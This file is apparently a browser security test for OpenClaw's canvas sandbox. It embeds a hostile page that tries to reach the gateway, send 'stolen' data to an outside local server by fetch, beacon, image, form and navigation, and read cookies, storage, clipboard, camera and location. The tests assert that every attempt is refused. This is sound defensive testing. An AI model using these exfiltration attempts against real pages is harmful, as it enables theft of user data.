/** A hostile canvas page in a real browser tries to get at the gateway, WebChat and the world, and gets nothing. */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { placeOf, rootOf } from "../canvas/asking.ts";
import { eventually } from "../helpers/wait.ts";
import { CanvasFrame } from "./canvas_frame.ts";
import { Visitor } from "./chromium.ts";
import { browserTest } from "./steps.ts";

const CANVAS = "/__openclaw__/canvas/";

/** Runs in the hostile page. Each attempt says `got: …` when it got something, else how it failed. */
const HOSTILE = `<!doctype html><html><body><form id="form" method="get"><input name="q" value="stolen"></form><script>
globalThis.attack = async ({ gateway, elsewhere, gatewayWs }) => {
  const outcomes = {};
  const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("silence"), 1500))]);
  const attempt = async (name, action) => {
    try { outcomes[name] = String(await within(Promise.resolve(action()))); }
    catch (error) { outcomes[name] = "error " + error.name; }
  };
  const dial = (url) => new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve("got: socket");
    socket.onmessage = () => resolve("got: message");
    socket.onerror = () => resolve("refused");
    socket.onclose = () => resolve("refused");
  });
  const element = (tag, set) => new Promise((resolve) => {
    const made = document.createElement(tag);
    made.onload = () => resolve(tag === "iframe" ? "loaded" : "got: " + tag);
    made.onerror = () => resolve("refused");
    set(made);
    document.body.append(made);
  });
  const reading = (url, options) => fetch(url, options).then((answer) => "got: " + answer.status + answer.type);
  await attempt("socket", () => dial(gatewayWs));
  await attempt("socket below the canvas", () => dial(gatewayWs + "/__openclaw__/gateway"));
  await attempt("socket without capability", () => dial(gatewayWs + "/__openclaw__/ws"));
  await attempt("health", () => reading(gateway + "/healthz"));
  await attempt("health without cors", () => reading(gateway + "/healthz", { mode: "no-cors" }));
  await attempt("webchat", () => reading(gateway + "/"));
  await attempt("elsewhere", () => reading(elsewhere + "/?stolen", { mode: "no-cors" }));
  await attempt("beacon", () => navigator.sendBeacon(elsewhere + "/?stolen", "stolen") ? "sent or dropped" : "refused");
  await attempt("image elsewhere", () => element("img", (made) => made.src = elsewhere + "/?stolen"));
  await attempt("image of the gateway", () => element("img", (made) => made.src = gateway + "/icon.svg"));
  await attempt("script of the gateway", () => element("script", (made) => made.src = gateway + "/app.js"));
  await attempt("module of the gateway", () => import(gateway + "/app.js").then(() => "got: module"));
  await attempt("style elsewhere", () => element("link", (made) => { made.rel = "stylesheet"; made.href = elsewhere + "/x.css?stolen"; }));
  await attempt("frame of the gateway", () => element("iframe", (made) => made.src = gateway + "/").then(() => {
    const text = document.querySelector("iframe").contentDocument.body.textContent;
    return text ? "got: " + text : "empty";
  }));
  await attempt("cookies", () => "got: " + document.cookie);
  await attempt("storage", () => "got: " + localStorage.length);
  await attempt("session storage", () => "got: " + sessionStorage.length);
  await attempt("database", () => new Promise((resolve) => {
    const request = indexedDB.open("x");
    request.onsuccess = () => resolve("got: database");
    request.onerror = () => resolve("refused");
  }));
  await attempt("cache", () => caches.open("x").then(() => "got: cache"));
  await attempt("service worker", () => navigator.serviceWorker.register("sw.js").then(() => "got: worker"));
  await attempt("worker", () => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve("got: worker");
    worker.onerror = () => resolve("refused");
  }));
  await attempt("parent document", () => "got: " + parent.document.title);
  await attempt("parent address", () => "got: " + parent.location.href);
  await attempt("parent global", () => "got: " + parent.canvasUnderTest);
  await attempt("top navigation", () => { top.location.href = elsewhere + "/?stolen"; return "asked"; });
  await attempt("popup", () => open(elsewhere + "/?stolen") ? "got: popup" : "refused");
  await attempt("form", () => { form.action = elsewhere; form.submit(); return "asked"; });
  await attempt("download", () => {
    const link = document.createElement("a");
    link.href = "data:text/plain,x"; link.download = "x.txt"; link.click();
    return "asked";
  });
  await attempt("dialog", () => confirm("?") ? "got: yes" : "refused");
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "got: camera"));
  await attempt("place", () => new Promise((resolve) =>
    navigator.geolocation.getCurrentPosition(() => resolve("got: place"), () => resolve("refused"))));
  await attempt("clipboard", () => navigator.clipboard.readText().then((text) => "got: " + text));
  await attempt("notification", () => Notification.requestPermission().then((answer) => answer === "granted" ? "got: it" : answer));
  return outcomes;
};
</script></body></html>`;

/** A page of somebody else, which writes down who came. */
async function elsewhere(): Promise<{ url: string; visits: string[]; stop(): Promise<void> }> {
  const visits: string[] = [];
  const server = createServer((request, response) => {
    visits.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end("elsewhere");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    visits,
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** What the browser itself says of each refused attempt. */
const BROWSERS_WORDS = [
  /Content Security Policy/u,
  /Failed to load resource/u,
  /Unsafe attempt to initiate navigation/u,
  /Blocked opening .* in a new window/u,
  /Blocked form submission/u,
  /Download is disallowed/u,
  /Ignored call to 'confirm/u,
  /WebSocket connection to .* failed/u,
  /Permissions policy/iu,
  /permission has been blocked/iu,
  /page error: /u,
  /sandbox/u,
  /X-Frame-Options|frame-ancestors/u,
];

browserTest("A hostile canvas page", { builtIn: true }, {
  "gets nothing in a frame, on either port, and its attempts are seen": async ({ gateway }) => {
    await Deno.writeTextFile(`${rootOf(gateway)}/hostile.html`, HOSTILE);
    const other = await elsewhere();
    const { client, url, cap } = await placeOf(gateway);
    try {
      for (const base of [url, `${gateway.httpUrl}${cap}`]) {
        // A device is there and its person says yes to everything: only the page's policy stands in between.
        await using visitor = await Visitor.come({
          args: ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"],
        });
        visitor.expected.push(...BROWSERS_WORDS);
        const page = await visitor.open(gateway.httpUrl);
        const popups: string[] = [];
        visitor.context.on("page", (popup) => popups.push(popup.url()));
        const canvas = await CanvasFrame.open(page, `${base}${CANVAS}hostile.html`);
        const inside = await canvas.inside();
        const facts = { gateway: gateway.httpUrl, gatewayWs: gateway.url, elsewhere: other.url };
        const outcomes = await inside.evaluate(async (facts) => await Reflect.get(globalThis, "attack")(facts), facts);
        const got = Object.entries(Object(outcomes)).filter(([, outcome]) => String(outcome).startsWith("got: "));
        assert.deepEqual(got, [], "what the page got");
        assert.ok(Object.keys(Object(outcomes)).length >= 30, "every attempt was made");
        const address = new URL(page.url());
        assert.equal(address.origin, gateway.httpUrl, "the page around it is still there");
        assert.deepEqual([other.visits, popups], [[], []], "nobody outside heard anything");
        const seen = visitor.faults.splice(0).join("\n");
        for (
          const directive of ["connect-src", "img-src", "script-src-elem", "style-src-elem", "frame-src", "worker-src"]
        ) {
          assert.match(seen, new RegExp(`CSP: ${directive} `, "u"), "the browser reports what it refused");
        }
      }
    } finally {
      await other.stop();
      await client.close();
    }
  },
  "cannot take its frame to WebChat or to a page outside": async ({ gateway }) => {
    const other = await elsewhere();
    const { client, cap } = await placeOf(gateway);
    try {
      await using visitor = await Visitor.come();
      visitor.expected.push(...BROWSERS_WORDS);
      const page = await visitor.open(gateway.httpUrl);
      for (const goal of [`${gateway.httpUrl}/`, `${other.url}/?stolen`, "data:text/html,<p id=app>x</p>"]) {
        const canvas = await CanvasFrame.open(page, `${gateway.httpUrl}${cap}${CANVAS}hostile.html`);
        const inside = await canvas.inside();
        await inside.evaluate((url) => void setTimeout(() => location.href = url, 0), goal);
        await eventually(
          "the refused page",
          async () => (await canvas.heard()).filter((each) => each["type"] === "loaded").length > 1,
        );
        assert.equal(await (await canvas.inside()).locator("#app").count(), 0, goal);
      }
      assert.deepEqual(other.visits, []);
      visitor.faults.splice(0);
    } finally {
      await other.stop();
      await client.close();
    }
  },
  "is no code for WebChat, even if somebody got a script tag into it": async ({ gateway }) => {
    await Deno.writeTextFile(`${rootOf(gateway)}/evil.js`, "globalThis.evil = true;");
    const { client, cap } = await placeOf(gateway);
    await using visitor = await Visitor.come();
    visitor.expected.push(...BROWSERS_WORDS);
    const page = await visitor.open(gateway.httpUrl);
    const outcome = await page.evaluate(async (path) => {
      const attempt = await import(path).then(() => "loaded", () => "refused");
      return { attempt, evil: Reflect.get(globalThis, "evil") };
    }, `${cap}${CANVAS}evil.js`);
    assert.notEqual(outcome.attempt, "loaded");
    assert.equal(outcome.evil, undefined);
    visitor.faults.splice(0);
    await client.close();
  },
  "has no origin of its own in a tab either, and reads no files of others without a capability": async (
    { gateway },
  ) => {
    const other = await elsewhere();
    try {
      await using visitor = await Visitor.come();
      visitor.expected.push(...BROWSERS_WORDS);
      const tab = await visitor.open(`${gateway.httpUrl}${CANVAS}hostile.html`);
      assert.equal(await tab.evaluate(() => self.origin), "null");
      for (const name of ["localStorage", "sessionStorage"]) {
        await assert.rejects(
          tab.evaluate((name) => Reflect.get(globalThis, name).length, name),
          /SecurityError|sandboxed/u,
        );
      }
      await assert.rejects(tab.evaluate(() => document.cookie), /SecurityError|sandboxed/u);
      const foreign = await visitor.open(other.url);
      const read = (url: string) =>
        foreign.evaluate(async (url) => {
          const image = await new Promise((resolve) => {
            const made = new Image();
            made.onload = () => resolve("image");
            made.onerror = () => resolve("refused");
            made.src = url.replace("hostile.html", "red.png");
          });
          const text = await fetch(url).then((answer) => answer.text(), () => "refused");
          const frame = document.createElement("iframe");
          frame.src = url;
          document.body.append(frame);
          await new Promise((resolve) => frame.onload = resolve);
          const inside = frame.contentDocument?.body?.textContent ?? "closed";
          return { image, text, inside };
        }, url);
      for (const port of [gateway.port, gateway.port + 4]) {
        assert.deepEqual(await read(`http://127.0.0.1:${port}${CANVAS}hostile.html`), {
          image: "refused",
          text: "refused",
          inside: "closed",
        });
      }
      visitor.faults.splice(0);
    } finally {
      await other.stop();
    }
  },
});
